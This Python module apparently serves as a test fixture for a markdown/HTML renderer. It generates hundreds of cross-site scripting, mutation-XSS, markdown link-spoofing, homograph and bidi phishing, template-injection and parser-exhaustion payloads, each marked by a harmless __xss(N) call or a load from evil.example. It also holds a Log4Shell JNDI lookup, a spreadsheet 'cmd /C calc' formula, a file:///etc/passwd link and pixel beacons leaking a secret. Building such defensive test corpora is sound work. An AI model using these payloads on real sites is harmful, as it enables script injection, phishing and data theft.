# ruff: noqa: E501, RUF001 - they look like what they are not, and are as long as they are.
"""Texts that would run scripts, load things or lead astray in a page that took them for more.

Each does ``__xss(N)`` if it runs, and asks ``evil.example`` for something if it loads. The
families are those of the well-known collections (OWASP's filter evasion, html5sec, the
markdown and mutation sets), put together here so that each works in its own right.
"""

from __future__ import annotations

from itertools import count, product

EVIL = "http://evil.example"
_number = count(1)


def _run() -> str:
    return f"__xss({next(_number)})"


def _tags() -> list[str]:
    """Elements that load or run by themselves."""
    return [
        f"<script>{_run()}</script>",
        f"<ScRiPt>{_run()}</sCrIpT>",
        f"<script/x>{_run()}</script>",
        f"<script\n>{_run()}</script\n>",
        f"<script src={EVIL}/x.js></script>",
        f'<script src="data:text/javascript,{_run()}"></script>',
        f'<script type="module">import "{EVIL}/m.js";{_run()}</script>',
        f"<<script>{_run()}//<</script>",
        f"<scr<script>ipt>{_run()}</scr</script>ipt>",
        f"</title><script>{_run()}</script>",
        f"</textarea><script>{_run()}</script>",
        f"</style><script>{_run()}</script>",
        f"--><script>{_run()}</script>",
        f"]]><script>{_run()}</script>",
        f"'\"><script>{_run()}</script>",
        f"</script><script>{_run()}</script>",
        f'<iframe src="javascript:{_run()}"></iframe>',
        f'<iframe srcdoc="<script>parent.{_run()}</script>"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{_run()}&lt;/script&gt;"></iframe>',
        f"<iframe src={EVIL}/frame></iframe>",
        f'<object data="javascript:{_run()}"></object>',
        f'<object data="data:text/html,<script>{_run()}</script>"></object>',
        f"<object data={EVIL}/o.swf></object>",
        f'<embed src="javascript:{_run()}">',
        f"<embed src={EVIL}/e.swf>",
        f"<applet code={EVIL}/a></applet>",
        f'<form action="javascript:{_run()}"><button>go</button></form>',
        f'<form id=f></form><button form=f formaction="javascript:{_run()}">go</button>',
        f'<isindex type=image src=1 onerror="{_run()}">',
        f'<base href="javascript:{_run()}//">',
        f"<base href={EVIL}/>",
        f"<base target=_self href={EVIL}>",
        f'<meta http-equiv=refresh content="0;url=javascript:{_run()}">',
        f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
        f"<meta http-equiv=set-cookie content='a={_run()}'>",
        f"<link rel=stylesheet href={EVIL}/x.css>",
        f"<link rel=prefetch href={EVIL}/pre>",
        f"<link rel=dns-prefetch href=//{EVIL[7:]}>",
        f"<link rel=import href={EVIL}/import.html>",
        f"<style>@import url({EVIL}/import.css);</style>",
        f"<style>body{{background:url({EVIL}/bg)}}</style>",
        f"<style><img src=x onerror={_run()}></style>",
        f'<div style="background:url({EVIL}/div)">styled</div>',
        f'<div style="width:expression({_run()})">styled</div>',
        f'<div style="-moz-binding:url({EVIL}/b.xml#x)">styled</div>',
        f'<p style="position:fixed;inset:0;background:red" onclick={_run()}>all over</p>',
        f"<img src={EVIL}/plain.png>",
        f'<img srcset="{EVIL}/set.png 1x">',
        f"<img lowsrc={EVIL}/low.png dynsrc={EVIL}/dyn.png>",
        f'<img src="javascript:{_run()}">',
        f'<input type=image src={EVIL}/i.png onerror="{_run()}">',
        f"<picture><source srcset={EVIL}/p.png><img src=x onerror={_run()}></picture>",
        f"<video poster={EVIL}/poster.png src={EVIL}/v.mp4></video>",
        f"<audio src={EVIL}/a.mp3 autoplay></audio>",
        f"<body background={EVIL}/body.png onload={_run()}>",
        f"<table background={EVIL}/t.png><td background={EVIL}/td.png>cell</table>",
        f"<frameset onload={_run()}><frame src={EVIL}/f></frameset>",
        f'<a href="javascript:{_run()}">raw link</a>',
        f'<a href="{EVIL}" ping="{EVIL}/ping">pinging link</a>',
        f'<area href="javascript:{_run()}" shape=default>',
        f'<a target=_top href="data:text/html,<script>{_run()}</script>">data link</a>',
        f'<x xmlns="http://www.w3.org/1999/xhtml"><script>{_run()}</script></x>',
        f"<xml id=i><x><![CDATA[<img src=x onerror={_run()}>]]></x></xml>",
        f"<?xml-stylesheet href='javascript:{_run()}'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/dtd'>]><x>&e;</x>",
        f"<%<!--'%><script>{_run()}</script -->",
        f"<template><script>{_run()}</script></template>",
        f"<div><template shadowrootmode=open><img src=x onerror={_run()}></template></div>",
        f"<portal src={EVIL}/portal></portal>",
        f"<fencedframe src={EVIL}/fenced></fencedframe>",
        f"<dialog open onclose={_run()}><form method=dialog><button>go</button></form></dialog>",
        "<form><input name=attributes><input name=innerHTML></form>",
        "<img name=body><img name=cookie><a id=location></a><a id=__reflex></a>",
    ]


_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=/favicon.svg", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("iframe", "onload"),
    ("video src=x", "onerror"),
    ("video", "onloadstart"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("div contenteditable autofocus tabindex=1", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("div popover id=p", "onbeforetoggle"),
    ("a href=#x", "onmouseover"),
    ("p", "onpointerrawupdate"),
    ("style", "onload"),
    ("div style=animation-name:x", "onanimationstart"),
)


def _events() -> list[str]:
    """Handlers, each written in the ways that filters overlook."""
    written = (
        "<{tag} {event}={run}>",
        '<{tag} {upper}="{run}">',
        "<{tag}/{event}='{run}'//",
        "<{tag}\x0c{event}\n=\t{run}>",
    )
    return [
        form.format(
            tag=tag if "/" not in form[:6] else tag.replace(" ", "/"),
            event=event,
            upper=event.upper().replace("O", "o", 1),
            run=_run(),
        )
        for (tag, event), form in product(_HANDLERS, written)
    ]


def _names_of_script() -> list[str]:
    """``javascript:`` and its kin, as filters do not know them and browsers do."""
    return [
        "javascript:{run}",
        "JaVaScRiPt:{run}",
        " javascript:{run}",
        "\x01javascript:{run}",
        "java\tscript:{run}",
        "java&#9;script:{run}",
        "java&#x0A;script:{run}",
        "java&NewLine;script:{run}",
        "java&Tab;script&colon;{run}",
        "&#106;avascript:{run}",
        "&#x6A&#x61&#x76&#x61script:{run}",
        "&#0000106avascript:{run}",
        "javascript&colon;{run}",
        "javascript&#58;{run}",
        "javascript%3A{run}",
        "%6Aavascript:{run}",
        "java\\script:{run}",
        "java\u200bscript:{run}",
        "java\u00adscript:{run}",
        "\u2028javascript:{run}",
        "ｊavascript:{run}",
        "javascript://evil.example/%0A{run}",
        "javascript://evil.example/?a=%0d{run}",
        "jAvAsCrIpT:void(0)||{run}",
        "vbscript:{run}",
        "livescript:{run}",
        "mocha:{run}",
        "data:text/html,<script>{run}</script>",
        "data:text/html;base64,PHNjcmlwdD5fX3hzcyg5OTk5KTwvc2NyaXB0Pg==",
        "DATA:image/svg+xml,<svg onload={run}>",
        "data:text/html;charset=utf-16,{run}",
        "blob:http://evil.example/{run}",
        "filesystem:http://evil.example/{run}",
        "view-source:javascript:{run}",
        "feed:javascript:{run}",
        "file:///etc/passwd#{run}",
        "about:srcdoc#{run}",
        "intent:#Intent;S.x={run};end",
        "ms-msdt:/id{run}",
        "tel:+4912345#{run}",
        "//evil.example/{run}",
        "\\\\evil.example\\{run}",
        "/\\evil.example/{run}",
        "/t/../export/{run}",
        "#{run}",
        "?x={run}",
        "https:evil.example/{run}",
        "http:\\\\evil.example/{run}",
    ]


def _links() -> list[str]:
    """Addresses in every place where markdown takes one."""
    schemes = _names_of_script()
    inline = [f"[link {n}]({one.format(run=_run())})" for n, one in enumerate(schemes)]
    angled = [f"[link](<{one.format(run=_run())}>)" for one in schemes]
    auto = [f"<{one.format(run=_run())}>" for one in schemes if " " not in one]
    images = [f"![image]({one.format(run=_run())})" for one in schemes[::2]]
    references = [
        f"[to {n}][ref{n}]\n\n[ref{n}]: <{one.format(run=_run())}>"
        for n, one in enumerate(schemes[::3])
    ]
    return [*inline, *angled, *auto, *images, *references]


def _markdown() -> list[str]:
    """Links, images and blocks that are more than they seem."""
    run = _run
    return [
        "[https://bank.example](https://evil.example)",
        "[https://bank.example/login](https://evil.example/bank.example/login)",
        "[bank.example](https://bank.example.evil.example/)",
        "[https://bank.example](https://bank.example@evil.example/)",
        "<https://bank.example@evil.example/>",
        "https://bank.example:443@evil.example/",
        "[аррӏе.com](https://аррӏе.com/)",
        "<https://аррӏе.com/>",
        "[раураl](https://раураl.com)",
        "[https://bank.example\u200b](https://evil.example/zero-width)",
        "[\u202ehttps://elpmaxe.knab](https://evil.example/bidi)",
        "[\u2066bank.example\u2069\u202d](https://evil.example/isolate)",
        "[https://bank.example](https://evil.example\u2044bank.example)",
        "[mail](mailto:a@evil.example?subject=x&body=y)",
        "[ann@bank.example](mailto:mallory@evil.example)",
        "<mallory@evil.example>",
        f"![pixel]({EVIL}/pixel.png?secret=1)",
        f"![pixel][px]\n\n[px]: {EVIL}/reference.png",
        f"[![pixel]({EVIL}/inner.png)]({EVIL}/outer)",
        f"![a]({EVIL}/x.png \"title' onerror='{run()}\")",
        f'[a]({EVIL}/ "title" onmouseover="{run()}")',
        f'[a]({EVIL}/"onmouseover="{run()})',
        f"[a]({EVIL}/' onclick='{run()})",
        f'![a" onerror="{run()}]({EVIL}/alt.png)',
        f"![\"'><script>{run()}</script>](x)",
        f"[<img src=x onerror={run()}>](https://evil.example/in-text)",
        f"[a](javascript:{run()} 'title')",
        f"[a](\njavascript:{run()}\n)",
        f"[a](<javascript:{run()}\n>)",
        f"[a]: javascript:{run()}\n\n[a] [a][] [b][a]",
        f"[a\\](javascript:{run()})",
        f"[[nested](javascript:{run()})](https://evil.example/outer)",
        f"[[[[[[[[[[a](javascript:{run()})]]]]]]]]]",
        f"![[a](javascript:{run()})](javascript:{run()})",
        f"[a](https://evil.example/)[b](javascript:{run()})[c](data:,{run()})",
        f"[a](javascript&#58;{run()}&#41;",
        f"**[bold](javascript:{run()})** _[it](vbscript:{run()})_ ~~[del](data:,{run()})~~",
        f"# [heading](javascript:{run()})",
        f"> [quote](javascript:{run()})\n> <script>{run()}</script>",
        f"- [item](javascript:{run()})\n  - <img src=x onerror={run()}>",
        f"1. <svg onload={run()}>\n2. [b](data:text/html,{run()})",
        f"- [ ] <img src=x onerror={run()}>\n- [x] [task](javascript:{run()})",
        f"| a | <img src=x onerror={run()}> |\n|---|---|\n| [c](javascript:{run()}) | ![x]({EVIL}/c) |",
        f"text[^1]\n\n[^1]: note <script>{run()}</script> [n](javascript:{run()})",
        f"text[^<img src=x onerror={run()}>]\n\n[^<img src=x onerror={run()}>]: note",
        f"[^__proto__] [^constructor]\n\n[^__proto__]: {run()}\n[^constructor]: {run()}",
        f'```"><img src=x onerror={run()}>\ncode\n```',
        f"```html onload={run()}\n<script>{run()}</script>\n```",
        f"```javascript:{run()}\n{run()}\n```",
        f"```__proto__\n{run()}\n```\n\n```constructor\n{run()}\n```\n\n```toString\n1\n```",
        f'```mermaid\ngraph TD; A["<img src=x onerror={run()}>"]; click A "javascript:{run()}"\n```',
        f"~~~ <script>{run()}</script>\n~~~",
        f"`<img src=x onerror={run()}>`",
        f"``a`<script>{run()}</script>``",
        f"    <script>{run()}</script>",
        f"$$\\href{{javascript:{run()}}}{{x}}$$",
        f"$\\unicode{{<img src=x onerror={run()}>}}$",
        f"\\( \\htmlData{{onclick={run()}}}{{x}} \\) \\[ \\url{{javascript:{run()}}} \\]",
        f"$\\includegraphics{{{EVIL}/katex.png}}$ $\\def\\x{{\\x\\x}}\\x$",
        f":::script\n{run()}\n:::",
        f"{{% raw %}}<script>{run()}</script>{{% endraw %}}",
        f"---\ntitle: <script>{run()}</script>\n---",
        f'<https://evil.example/"onmouseover="{run()}>',
        f"https://evil.example/'onmouseover='{run()}",
        f"www.evil.example/<script>{run()}</script>",
        f'a@evil.example"onclick="{run()}',
        f"&lt;script&gt;{run()}&lt;/script&gt;",
        f"&#60;script&#62;{run()}&#60;/script&#62;",
        f"&amp;lt;img src=x onerror={run()}&amp;gt;",
        f"\\<script>{run()}\\</script>",
        f"<div>\n\n[in html](javascript:{run()})\n\n</div>",
        f"<div markdown=1>[a](javascript:{run()})</div>",
    ]


def _mutations() -> list[str]:
    """What becomes another tree when it is written and read again, or in another namespace."""
    run = _run
    return [
        f"<svg><script>{run()}</script></svg>",
        f"<svg><script xlink:href=data:,{run()}></script></svg>",
        f"<svg><script href={EVIL}/svg.js /></svg>",
        f"<svg><a xlink:href=javascript:{run()}><text y=20>svg link</text></a></svg>",
        f"<svg><animate onbegin={run()} attributeName=x dur=1s>",
        f"<svg><set onbegin={run()} attributeName=x to=1>",
        f"<svg><a><animate attributeName=href values=javascript:{run()} /><text>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={run()}/>#x'/></svg>",
        f"<svg><use xlink:href={EVIL}/use.svg#x /></svg>",
        f"<svg><image href={EVIL}/image.png onload={run()}></svg>",
        f"<svg><feImage href={EVIL}/fe.png /></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{run()}</script>'></foreignObject></svg>",
        f"<svg><foreignObject><body onload={run()}></foreignObject></svg>",
        f"<svg><style>*{{background:url({EVIL}/svgstyle)}}</style></svg>",
        f"<svg><style><img src=x onerror={run()}></style></svg>",
        f"<svg><desc><img src=x onerror={run()}></desc></svg>",
        f"<svg><title><img src=x onerror={run()}></title></svg>",
        f'<svg></p><style><a id="</style><img src=1 onerror={run()}>">',
        f"<math><a xlink:href=javascript:{run()}>math link</a></math>",
        f"<math><maction actiontype=statusline#x xlink:href=javascript:{run()}>x</maction></math>",
        f"<math href=javascript:{run()}>click</math>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run()}&gt;">',
        f"<math><mtext><table><mglyph><style><math><img src=x onerror={run()}></style>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={run()}>",
        f"<math><annotation-xml encoding=text/html><script>{run()}</script></annotation-xml></math>",
        f"<math><!--<img src=x onerror={run()}>--></math>",
        f'<noscript><p title="</noscript><img src=x onerror={run()}>">',
        f"<noembed><img src=x onerror={run()}></noembed>",
        f'<xmp><p title="</xmp><svg/onload={run()}>">',
        f"<listing>&lt;img onerror={run()} src=x&gt;</listing>",
        f'<title><p title="</title><img src=x onerror={run()}>">',
        f'<textarea><p title="</textarea><img src=x onerror={run()}>">',
        f'<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror={run()}>">',
        f"<table><td><a><b><img src=x onerror={run()}></table>",
        f"<p id='</p><svg onload={run()}>'>",
        f'<a href="`&quot;onmouseover={run()}`">tick</a>',
        f"<img src=`x` onerror={run()}``>",
        f"<svg><!--<desc>--><desc><img src=x onerror={run()}>",
        f"<svg:script xmlns:svg='http://www.w3.org/2000/svg'>{run()}</svg:script>",
        f'<d3"<"/onclick="1>[{run()}]"<">z',
    ]


def _bytes_and_marks() -> list[str]:
    """Characters that are not seen, or that readers of bytes take for others."""
    run = _run
    return [
        f"<\x00script>{run()}</script>",
        f"<scr\x00ipt>{run()}</scr\x00ipt>",
        f"<img src=x on\x00error={run()}>",
        f"<img\x0bsrc=x onerror={run()}>",
        f"\ufeff<script>{run()}</script>",
        f"\u202e<script>{run()}</script>\u202c",
        f"\u2066<img src=x onerror={run()}>\u2069",
        f"<\u200bscript>{run()}</script>",
        f"＜script＞{run()}＜/script＞",
        f"+ADw-script+AD4-{run()}+ADw-/script+AD4-",
        f"\x1b$)B<script>{run()}</script>",
        f"¼script¾{run()}¼/script¾",
        f"\u2028<script>{run()}</script>\u2029",
        f"\u0338<script>{run()}</script>",
        f'<a href="java\x00script:{run()}">null link</a>',
        f"\ud7ff\ue000\ufffe<script>{run()}</script>",
        "a" + "\u0300" * 500,
        "\u202e" * 50 + "reversed",
        "\U000e0041" * 30 + "tagged",
        f"\\u003cscript\\u003e{run()}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{run()}\\x3c/script\\x3e",
        f"%3Cscript%3E{run()}%3C/script%3E",
        f"%253Cscript%253E{run()}%253C/script%253E",
    ]


def _templates() -> list[str]:
    """What template engines, loggers and other readers of text would carry out."""
    run = _run
    return [
        f"{{{{constructor.constructor('{run()}')()}}}}",
        f"{{{{ {run()} }}}}",
        f"${{{run()}}}",
        f"#{{{run()}}}",
        f"<%= {run()} %>",
        f"[[{run()}]]",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "{{config}} {{self.__class__.__mro__}} {% import os %}",
        "${jndi:ldap://evil.example/a}",
        "%s%n%x {0} {self.__init__.__globals__}",
        f"<div ng-app ng-csp><input ng-focus={run()} autofocus></div>",
        f"<div v-html=\"'<img src=x onerror={run()}>'\" x-data x-init={run()}></div>",
        f"<div hx-get={EVIL}/hx hx-trigger=load data-action={run()}></div>",
        f'{{"__html": "<img src=x onerror={run()}>"}}',
        f'{{"$$typeof":"Symbol(react.element)","type":"script","props":{{"children":"{run()}"}}}}',
        '{"__proto__": {"innerHTML": "x"}, "constructor": {"prototype": {}}}',
        f'";{run()};//',
        f"';{run()};//",
        f"`;{run()};//",
        f"*/{run()}/*",
        f"</script>{run()}",
        f'\\";{run()};//',
        f"-{run()}-",
        f"{run()}",
        f"=cmd|' /C calc'!A0 @SUM(1) +{run()}",
    ]


def _deep() -> list[str]:
    """So much of one thing that what reads it gives up."""
    run = _run
    return [
        "<b>" * 300 + f"<img src=x onerror={run()}>",
        "<div><svg><math>" * 100 + f"<script>{run()}</script>",
        "> " * 100 + f"<script>{run()}</script>",
        "*" * 400 + f"<img src=x onerror={run()}>",
        "[" * 400 + f"a](javascript:{run()})",
        "![" * 200 + f"a](javascript:{run()})",
        f"<img src=x onerror={run()}{' ' * 2000}>",
        f"<img {'a=b ' * 300}src=x onerror={run()}>",
    ]


def _math() -> list[str]:
    """Formulas that would link, load, style, define without end, or draw over the page."""
    run = _run
    return [
        rf"$\href{{javascript:{run()}}}{{x}}$",
        rf"$$\href{{javascript:{run()}}}{{x}}$$",
        rf"\(\url{{javascript:{run()}}}\)",
        rf"\[\href{{data:text/html,<script>{run()}</script>}}{{x}}\]",
        rf"$\htmlClass{{dialog-veil}}{{{run()}}}$",
        rf"$\htmlId{{message}}{{{run()}}}$",
        rf"$\htmlStyle{{position:fixed;inset:0;background:url({EVIL}/s)}}{{{run()}}}$",
        rf"$\htmlData{{x=\"onclick={run()}\"}}{{x}}$",
        rf"$\includegraphics[height=99em]{{{EVIL}/i.png}}$",
        rf"$\includegraphics{{javascript:{run()}}}$",
        rf"$\text{{<img src=x onerror={run()}>}}$",
        rf"$\text{{</annotation></math><script>{run()}</script>}}$",
        rf"$\unicode{{<script>{run()}</script>}}$",
        rf"$\textcolor{{red;background:url({EVIL}/c)}}{{{run()}}}$",
        rf"$\color{{expression({run()})}}x$",
        rf"$\rule{{9999em}}{{9999em}} {run()}$",
        rf"$\kern-9999em\rule{{99em}}{{99em}} {run()}$",
        rf"$\llap{{\rule{{99em}}{{99em}}}}\raisebox{{90em}}{{{run()}}}$",
        rf"$\smash{{\rule[-90em]{{99em}}{{99em}}}} {run()}$",
        rf"$\def\a{{\a\a}}\a {run()}$",
        r"$\def\a#1{#1#1#1#1}\def\b#1{\a{\a{\a{#1}}}}\b{\b{\b{\b{x}}}}$",
        r"$\gdef\frac#1#2{\href{javascript:__xss(0)}{#1}}\frac12$",
        r"$\newcommand{\sqrt}[1]{\sqrt{\sqrt{#1}}}\sqrt{2}$",
        r"$\let\x=\href \x{javascript:__xss(0)}{y}$",
        "$" + r"\frac{1}{" * 300 + "1" + "}" * 300 + "$",
        "$" + r"\sqrt{" * 900 + "1" + "}" * 900 + "$",
        "$" + "x^" * 1_500 + "x$",
        "$$\n" + r"\begin{matrix}" + "1 & 2 \\\\ " * 400 + r"\end{matrix}" + "\n$$",
        rf"```math\n\href{{javascript:{run()}}}{{x}}\n```\n",
    ]


SWALLOWING: tuple[str, ...] = (
    f"<!-- <script>{_run()}</script>",
    f"<![CDATA[ <script>{_run()}</script>",
    f"<? <script>{_run()}</script>",
    f"<!X <script>{_run()}</script>",
    f"<textarea>\n<script>{_run()}</script>",
    f"<style>\n<script>{_run()}</script>",
    f"```\n<script>{_run()}</script>",
    f"~~~~\n[a](javascript:{_run()})",
    f"<script>\n{_run()}",
    f"<pre>\n<img src=x onerror={_run()}>",
)
"""After these nothing else would be read as what it is: each has to stand last or alone."""

PAYLOADS: tuple[str, ...] = (
    *_tags(),
    *_events(),
    *_links(),
    *_markdown(),
    *_mutations(),
    *_bytes_and_marks(),
    *_templates(),
    *_deep(),
    *_math(),
)

SHORT: tuple[str, ...] = tuple(one for one in PAYLOADS if len(one) <= 70 and "\n" not in one)
"""For names."""


def in_messages(size: int = 120) -> list[str]:
    """All of them as texts of messages: each by itself, and once more within a sentence."""
    alone = [f"{one}\n\n" for one in PAYLOADS]
    within = [f"before {one} after\n\n" for one in PAYLOADS if "\n" not in one]
    texts = [
        "".join(some[at : at + size])
        for some in (alone, within)
        for at in range(0, len(some), size)
    ]
    return [*texts, *SWALLOWING]
